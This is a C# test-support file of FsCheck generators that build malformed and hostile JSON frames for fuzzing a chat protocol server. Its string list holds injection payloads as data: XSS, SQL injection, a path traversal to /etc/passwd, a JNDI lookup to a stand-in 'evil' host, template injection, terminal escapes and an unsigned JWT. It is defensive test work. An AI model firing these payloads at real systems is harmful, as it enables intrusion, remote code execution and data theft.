using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json;
using FsCheck;
using FsCheck.Fluent;

namespace Parley.Security.Tests.Support;

/// <summary>
/// FsCheck generators of hostile client frames, as raw bytes: wrong types, deep nesting, huge and malformed numbers,
/// invalid UTF-8, unknown ops, negative and huge seqs, oversize strings, duplicated fields, and Unicode abuse (RTL
/// overrides, 10,000 combining marks, lone surrogates, NUL and terminal escapes). Most are near-valid on purpose:
/// a real op with one field wrong reaches deeper than noise does.
/// </summary>
public static class HostileFrames
{
    private static readonly JsonSerializerOptions Relaxed = new() { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    private static readonly string[] Ops = ["hello", "send", "delivered", "read", "typing", "ping"];

    private static readonly string[] Numbers =
    [
        "0", "-0", "1", "-1", "2", "7", "1.0", "1.5", "-1.5", "1e3", "1E+2", "1e400", "-1e400", "1e-400", "0.0000001",
        "9007199254740991", "9007199254740992", "9007199254740993", "9223372036854775807", "9223372036854775808",
        "-9223372036854775809", "123456789012345678901234567890123456789", "18446744073709551616",
        new string('9', 400), "-" + new string('9', 100),
    ];

    // Not JSON at all, in a value position.
    private static readonly string[] BrokenValues = ["NaN", "Infinity", "-Infinity", "0x10", "01", "+1", ".5", "1.", "undefined", "'single'", "\"unterminated", "\"bad \\x41 escape\"", "\"\\ud800\"", "\"\\udc00\\ud800\"", "\"\\u0000\"", "tru", "nul", "[1,]", "{\"a\":}", "{,}"];

    private static readonly string[] Words =
    [
        "", " ", "a", "hello", "null", "0", "-1", "true", "__proto__", "constructor", "prototype", "../../etc/passwd",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "' OR 1=1 --", "\"; DROP TABLE messages; --",
        "%00", "${jndi:ldap://evil/x}", "{{7*7}}", "\u202Egnp.exe", "\u202Dx\u202C", "\u2066isolate\u2069", "\u200B\u200C\u200D\uFEFF",
        "\u0000", "nul\u0000inside", "\u001b[2J\u001b[H", "\u001b]0;pwned\u0007", "\u009b31m", "\r\nInjected: header", "\u0085\u2028\u2029",
        "\uD800", "x\uDFFFy", "\uDBFF\uDFFF", "😀", "👨‍👩‍👧‍👦", "ﷺ", "𒐫", "Z̴̧̛a̸l̷g̶o̵",
    ];

    // Big strings are built once: generating 100,000 frames must stay fast.
    private static readonly string[] BigStrings =
    [
        .. new[] { 1, 2, 100, 3999, 4000, 4001, 10_000 }.Select(n => "a" + new string('\u0301', n)),
        .. new[] { 3999, 4000, 4001, 8001 }.Select(n => string.Concat(Enumerable.Repeat("😀", n))),
        .. new[] { 4000, 4001, 8001, 70_000 }.Select(n => new string('x', n)),
        .. new[] { 10, 300 }.Select(n => string.Concat(Enumerable.Repeat("\u202E\u2066", n))),
    ];

    private static readonly string[] BigQuoted = [.. BigStrings.Select(Quote)];

    private static readonly string[] Nested =
    [
        .. new[] { 1, 5, 64, 1000, 10_000 }.Select(n => new string('[', n) + new string(']', n)),
        .. new[] { 1, 5, 64, 1000, 5_000 }.Select(n => string.Concat(Enumerable.Repeat("{\"op\":", n)) + "\"ping\"" + new string('}', n)),
    ];

    private static readonly string HugeResume = "{" + string.Join(",", Enumerable.Range(0, 10_001).Select(i => $"\"c{i}\":1")) + "}";

    /// <summary>A string meant to break something: boundaries, Unicode abuse, control characters, sheer size.</summary>
    public static Gen<string> HostileString { get; } = Gen.Frequency(
        (8, Gen.Elements(Words)),
        (4, IdLike(1, 70)),
        (2, Gen.Elements(BigStrings)),
        (2, RandomText));

    // Quoted hostile strings; the big ones are rare here (every field uses this) and frequent only in bodies.
    private static Gen<string> HostileQuoted { get; } = Gen.Frequency(
        (24, Gen.Elements(Words).Select(Quote)),
        (12, IdLike(1, 70).Select(Quote)),
        (1, Gen.Elements(BigQuoted)),
        (6, RandomText.Select(Quote)));

    private static Gen<string> RandomText => Gen.Choose(1, 40).SelectMany(n => Gen.ArrayOf(Gen.Choose(0, 0x10FFFF), n)).Select(points => string.Concat(points.Select(RuneOrSurrogate)));

    private static readonly Gen<string>[] ValuesByDepth = BuildValues(5);

    /// <summary>A raw JSON value (sometimes not valid JSON) of any type, nested a few levels.</summary>
    public static Gen<string> Value { get; } = Gen.Sized(size => ValuesByDepth[Math.Min(size / 20, ValuesByDepth.Length - 1)]);

    /// <summary>One hostile frame as the bytes a client would send.</summary>
    public static Gen<byte[]> Frame(IReadOnlyList<string> convs) => Gen.Frequency(
        (14, ObjectFrame(convs).Select(Encoding.UTF8.GetBytes)),
        (2, Value.Select(Encoding.UTF8.GetBytes)),
        (2, ObjectFrame(convs).Select(Encoding.UTF8.GetBytes).SelectMany(Mutate)),
        (1, Gen.Choose(0, 200).SelectMany(n => Gen.ArrayOf(Gen.Choose(0, 255).Select(b => (byte)b), n))),
        (1, Gen.Elements(Nested).Select(Encoding.UTF8.GetBytes)));

    /// <summary>A frame that follows the protocol: it must be accepted, with its fields read back exactly.</summary>
    public static Gen<(string Op, string Conv, string ClientMsgId, string Body, long Seq, byte[] Bytes)> ValidFrame { get; } =
        from op in Gen.Elements("send", "read", "delivered", "typing")
        from conv in IdLike(1, 64)
        from cid in IdLike(1, 64)
        from body in Gen.Frequency(
            (4, Gen.Elements(Words).Where(w => w.Length > 0 && !w.Contains('\0', StringComparison.Ordinal) && w.Length < 4000 && IsScalarText(w))),
            (1, Gen.Elements(1, 100, 3999).Select(n => "a" + new string('\u0301', n))),
            (1, Gen.Elements(1, 2000, 4000).Select(n => string.Concat(Enumerable.Repeat("😀", n)))))
        from seq in Gen.Frequency((3, Gen.Choose(0, 1000).Select(i => (long)i)), (1, Gen.Constant(9007199254740991L)))
        select (op, conv, cid, body, seq, Encoding.UTF8.GetBytes(op switch
        {
            "send" => JsonSerializer.Serialize(new { op, conv, clientMsgId = cid, body }, Relaxed),
            "typing" => JsonSerializer.Serialize(new { op, conv }),
            _ => JsonSerializer.Serialize(new { op, conv, seq }),
        }));

    private static Gen<string> ObjectFrame(IReadOnlyList<string> convs)
    {
        var op = Gen.Frequency(
            (12, Gen.Elements(Ops).Select(Quote)),
            (2, HostileQuoted),
            (1, Gen.Elements("\"HELLO\"", "\"Send\"", "\"send \"", "\"se\\u006ed\"", "42", "null", "true", "[\"send\"]", "{\"op\":\"send\"}")));
        var conv = Gen.Frequency(
            (6, Gen.Elements(convs.ToArray()).Select(Quote)),
            (2, IdLike(1, 70).Select(Quote)),
            (2, HostileQuoted),
            (1, Value));
        var cid = Gen.Frequency((6, IdLike(1, 64).Select(Quote)), (1, IdLike(65, 70).Select(Quote)), (2, HostileQuoted), (1, Value));
        var body = Gen.Frequency((16, HostileQuoted), (2, Gen.Elements(BigQuoted)), (2, Value), (2, Gen.Elements(BrokenValues)));
        var seq = Gen.Frequency((3, Gen.Elements(Numbers)), (3, Gen.Choose(0, 10).Select(i => i.ToString(System.Globalization.CultureInfo.InvariantCulture))), (1, Value));
        var token = Gen.Frequency((3, HostileQuoted), (1, Gen.Constant("\"eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.\"")), (1, Value));
        var resume = Gen.Frequency(
            (30, Gen.Choose(0, 4).SelectMany(n => Gen.ListOf(Gen.Zip(conv, seq), n)).Select(entries => "{" + string.Join(",", entries.Select(e => e.Item1 + ":" + e.Item2)) + "}")),
            (1, Gen.Constant(HugeResume)),
            (6, Value));
        var t = Gen.Frequency((3, Gen.Elements(Numbers)), (2, HostileQuoted), (1, Value));
        var extra = Gen.Zip(HostileQuoted, Value).Select(p => p.Item1 + ":" + p.Item2);

        Gen<string>[] fields =
        [
            op.Select(v => "\"op\":" + v), conv.Select(v => "\"conv\":" + v), cid.Select(v => "\"clientMsgId\":" + v),
            body.Select(v => "\"body\":" + v), seq.Select(v => "\"seq\":" + v), token.Select(v => "\"token\":" + v),
            resume.Select(v => "\"resume\":" + v), t.Select(v => "\"t\":" + v), extra,
        ];

        // Mostly the fields an op uses (so frames get past the first check), sometimes any others.
        var usual = Gen.Elements<int[]>([1, 2, 3], [1, 4], [1], [5, 6], [7], [1, 2, 3, 8], []);
        return from op0 in Gen.Frequency((9, Gen.Constant(true)), (1, Gen.Constant(false)))
               from core in usual
               from others in Gen.Frequency((3, Gen.Constant(Array.Empty<int>())), (1, Gen.SubListOf(Enumerable.Range(1, fields.Length - 1)).Select(l => l.ToArray())))
               from values in Gen.CollectToList((op0 ? new[] { 0 } : []).Concat(core).Concat(others).Distinct().Select(i => fields[i]))
               from duplicate in Gen.Frequency((12, Gen.Constant(false)), (1, Gen.Constant(true)))
               from order in Gen.Shuffle(duplicate && values.Count > 0 ? values.Concat(values.Take(1)) : values)
               select "{" + string.Join(",", order) + "}";
    }

    private static Gen<string>[] BuildValues(int maxDepth)
    {
        var leaf = Gen.Frequency(
            (4, HostileQuoted),
            (3, Gen.Elements(Numbers)),
            (1, Gen.Elements("true", "false", "null")),
            (1, Gen.Elements(BrokenValues)));
        var byDepth = new Gen<string>[maxDepth + 1];
        byDepth[0] = leaf;
        for (var d = 1; d <= maxDepth; d++)
        {
            var inner = byDepth[d - 1];
            byDepth[d] = Gen.Frequency(
                (5, leaf),
                (1, Gen.Choose(0, 4).SelectMany(n => Gen.ListOf(inner, n)).Select(items => "[" + string.Join(",", items) + "]")),
                (1, Gen.Choose(0, 4).SelectMany(n => Gen.ListOf(Gen.Zip(HostileQuoted, inner), n)).Select(kv => "{" + string.Join(",", kv.Select(p => p.Item1 + ":" + p.Item2)) + "}")));
        }

        return byDepth;
    }

    /// <summary>Breaks a well-formed frame at the byte level: invalid UTF-8 in, a byte flipped, the end cut off.</summary>
    private static Gen<byte[]> Mutate(byte[] frame)
    {
        byte[][] invalidUtf8 = [[0xC0, 0x80], [0xFF], [0x80], [0xE2, 0x82], [0xED, 0xA0, 0x80], [0xF0, 0x82, 0x82, 0xAC], [0xF4, 0x90, 0x80, 0x80], [0xC3, 0x28], [0xFE, 0xFF]];
        var at = Gen.Choose(0, Math.Max(0, frame.Length));
        return Gen.Frequency(
            (3, Gen.Zip(at, Gen.Elements(invalidUtf8)).Select(p => frame.Take(p.Item1).Concat(p.Item2).Concat(frame.Skip(p.Item1)).ToArray())),
            (2, Gen.Zip(at, Gen.Choose(0, 255)).Select(p =>
            {
                var copy = (byte[])frame.Clone();
                if (copy.Length > 0)
                {
                    copy[Math.Min(p.Item1, copy.Length - 1)] = (byte)p.Item2;
                }

                return copy;
            })),
            (1, at.Select(n => frame.Take(n).ToArray())));
    }

    private static Gen<string> IdLike(int min, int max) =>
        Gen.Choose(min, max).SelectMany(n => Gen.ArrayOf(Gen.Elements("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-".ToCharArray()), n)).Select(c => new string(c));

    /// <summary>A JSON string literal: quotes, backslashes and controls escaped, lone surrogates as \uXXXX escapes, the rest raw.</summary>
    private static string Quote(string s)
    {
        var text = new StringBuilder(s.Length + 2).Append('"');
        for (var i = 0; i < s.Length; i++)
        {
            var c = s[i];
            var paired = char.IsHighSurrogate(c) && i + 1 < s.Length && char.IsLowSurrogate(s[i + 1]);
            if (paired)
            {
                text.Append(c).Append(s[++i]);
            }
            else if (c is '"' or '\\')
            {
                text.Append('\\').Append(c);
            }
            else if (c < 0x20 || char.IsSurrogate(c))
            {
                text.Append("\\u").Append(((int)c).ToString("x4", System.Globalization.CultureInfo.InvariantCulture));
            }
            else
            {
                text.Append(c);
            }
        }

        return text.Append('"').ToString();
    }

    private static string RuneOrSurrogate(int point) =>
        point is >= 0xD800 and <= 0xDFFF ? ((char)point).ToString() : char.ConvertFromUtf32(point);

    private static bool IsScalarText(string s) => Parley.Protocol.ProtocolRules.IsWellFormed(s);
}
